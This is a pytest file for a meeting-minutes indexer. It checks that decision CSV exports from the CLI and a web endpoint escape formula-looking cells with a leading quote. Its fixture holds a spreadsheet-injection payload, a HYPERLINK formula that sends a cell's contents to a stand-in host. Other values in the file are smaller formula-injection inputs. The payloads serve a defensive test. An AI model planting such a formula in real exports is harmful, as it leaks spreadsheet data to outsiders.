"""The decisions CSV, through `minutebook decisions --csv` and `/decisions?format=csv`: formula cells neutralised."""
from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner
from test_store import make_doc

from indexer import store
from indexer.cli import cli
from indexer.settings import load_settings
from webapp import create_app

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Agreed")'


@pytest.fixture()
def settings(tmp_path):
    settings = load_settings(data_dir=tmp_path / "data", embed_backend="hash")
    db = store.open_store(settings.db_path)
    store.replace_document(db, make_doc("aaaaaaaaaaaa", FORMULA))
    with db.atomic():  # a proposer and a seconder as a paper might print them
        db.execute("update decisions set proposer = '@SUM(1+1)', seconder = '-2+3'")
    db.conn.close()
    return settings


def _cells(text: str) -> dict:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
    return {k: rows[0][k] for k in ("text", "proposer", "seconder", "votes_for", "verbs")}


WANT = {"text": "'" + FORMULA, "proposer": "'@SUM(1+1)", "seconder": "'-2+3", "votes_for": "5", "verbs": "AGREED"}


def test_the_cli_csv_neutralises_formula_cells(settings):
    result = CliRunner().invoke(cli, ["--data", str(settings.data_dir), "decisions", "--csv"])
    assert result.exit_code == 0, result.output
    assert _cells(result.stdout) == WANT


def test_the_register_csv_neutralises_formula_cells(settings):
    r = create_app({"TESTING": True}, settings=settings).test_client().get("/decisions?format=csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert _cells(r.get_data(as_text=True)) == WANT


@pytest.mark.parametrize("value, want", [
    ("=1+1", "'=1+1"), ("+44 1603", "'+44 1603"), ("-x", "'-x"), ("@cmd", "'@cmd"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("AGREED", "AGREED"), ("a=b", "a=b"), (-3, -3), (None, None)])
def test_cells_that_could_start_a_formula_get_a_quote(value, want):
    assert store.export.cell(value) == want
